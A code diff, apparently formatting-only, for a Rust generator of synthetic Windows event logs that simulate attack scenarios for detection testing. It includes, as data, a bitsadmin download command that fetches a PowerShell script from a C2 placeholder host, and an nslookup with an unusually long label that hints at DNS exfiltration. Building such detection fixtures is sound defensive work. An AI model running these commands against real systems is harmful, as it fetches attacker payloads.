@@ -210,7 +210,13 @@ pub fn generate(s: &'static Scenario, variant: Variant, opts: &Options) -> Gener
                     None,
                 );
                 let i = b.sysmon_process(&p, t);
-                signals.push((i, format!("Sysmon 1: nslookup.exe with a {}-character label", label.len())));
+                signals.push((
+                    i,
+                    format!(
+                        "Sysmon 1: nslookup.exe with a {}-character label",
+                        label.len()
+                    ),
+                ));
                 let i = b.security_process(&p, t + 700);
                 signals.push((i, "Security 4688: nslookup.exe with a long label".into()));
                 let i = b.sysmon_connect(&p, t + 40_000, "udp", ("8.8.8.8", 53), "dns.google");
@@ -228,7 +234,9 @@ pub fn generate(s: &'static Scenario, variant: Variant, opts: &Options) -> Gener
         _ => {
             let out = format!("{TEMP}\\bitsadmin1_flag.ps1");
             let url = format!("https://{C2}/T1197/bitsadmin1_flag.ps1");
-            let cmd = format!("bitsadmin.exe /transfer qcxjb7 /download /priority foreground {url} {out}");
+            let cmd = format!(
+                "bitsadmin.exe /transfer qcxjb7 /download /priority foreground {url} {out}"
+            );
             let p = b.process(
                 "C:\\Windows\\System32\\bitsadmin.exe",
                 &cmd,
@@ -256,7 +264,10 @@ pub fn generate(s: &'static Scenario, variant: Variant, opts: &Options) -> Gener
                 let i = b.sysmon_connect(&svc, t0 + 700_000, "tcp", (C2, 443), "-");
                 signals.push((i, format!("Sysmon 3: svchost.exe (BITS service) -> {C2}:443/tcp, the transfer bitsadmin asked for")));
                 let i = b.security_connect(&svc, t0 + 700_300, 6, (C2, 443));
-                signals.push((i, format!("Security 5156: svchost.exe (BITS service) -> {C2}:443/tcp")));
+                signals.push((
+                    i,
+                    format!("Security 5156: svchost.exe (BITS service) -> {C2}:443/tcp"),
+                ));
                 b.sysmon_file(&svc, t0 + SECOND, &format!("{TEMP}\\BIT7A3F.tmp"));
                 b.bits_transfer(t0 + SECOND + 200_000, 60, "qcxjb7", &job, &url);
                 b.bits_job_completed(&p, t0 + SECOND + 300_000, "qcxjb7", &job);
@@ -270,7 +281,12 @@ pub fn generate(s: &'static Scenario, variant: Variant, opts: &Options) -> Gener
         }
     }
     let own = b.events.len();
-    background::add(&mut b, t0 - 120 * SECOND, t0 + 120 * SECOND, opts.background);
+    background::add(
+        &mut b,
+        t0 - 120 * SECOND,
+        t0 + 120 * SECOND,
+        opts.background,
+    );
     let mut events = std::mem::take(&mut b.events);
     let position = finish(&mut events, 1000 + u64::from(s.number) * 10_000);
     let background = position[own..]
@@ -351,7 +367,10 @@ mod tests {
             .find(|e| e.event_id == 3 && e.provider.name == "Microsoft-Windows-Sysmon")
             .unwrap();
         assert!(conn.get("Image").unwrap().text().ends_with("svchost.exe"));
-        assert!(real.events.iter().any(|e| e.provider.channel.contains("Bits-Client")));
+        assert!(real
+            .events
+            .iter()
+            .any(|e| e.provider.channel.contains("Bits-Client")));
     }
 
     #[test]
